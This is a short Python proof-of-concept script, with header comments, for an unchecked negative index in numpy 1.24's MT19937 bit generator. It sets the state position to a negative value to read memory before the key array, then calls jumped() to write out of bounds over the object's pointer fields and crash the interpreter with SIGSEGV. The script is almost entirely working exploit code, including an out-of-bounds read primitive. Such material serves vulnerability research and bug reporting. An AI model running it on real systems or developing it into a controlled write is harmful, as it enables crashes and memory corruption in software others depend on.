# source: numpy 1.24 numpy/random/_mt19937.pyx MT19937.jumped (copies state, pos included, then mt19937_jump) and src/mt19937/mt19937-jump.c gen_next (writes state->key[num] for num = pos when pos < N - M, negative included)
# family: unchecked index in a bit generator's state (write side: MT19937.jumped with a negative pos)
# goal: out-of-bounds memory write: jumped() with pos=-4 runs the jump with a negative index (gen_next writes key[pos] at negative pos, before the array, over the object's own pointer fields; add_state indexes with the same pos), and the interpreter dies with SIGSEGV (exit 139). The same offsets read cleanly just before (first line), so the crash comes from the jump's writes. Not shaped into a controlled write (no time): a crash proof only
import numpy as np

M32 = 0xFFFFFFFF


def untemper(y):
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & M32
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & M32


bg = np.random.MT19937(0)
key = bg.state["state"]["key"]
bg.state = {"bit_generator": "MT19937", "state": {"key": key, "pos": -8}}
print("key[-8..-1] before (read out of bounds):", [hex(untemper(int(v))) for v in bg.random_raw(8)], flush=True)
bg.state = {"bit_generator": "MT19937", "state": {"key": key, "pos": -4}}
print("calling jumped() with pos=-4: gen_next writes key[-4], key[-3], ...", flush=True)
nb = bg.jumped()
print("not reached", nb)
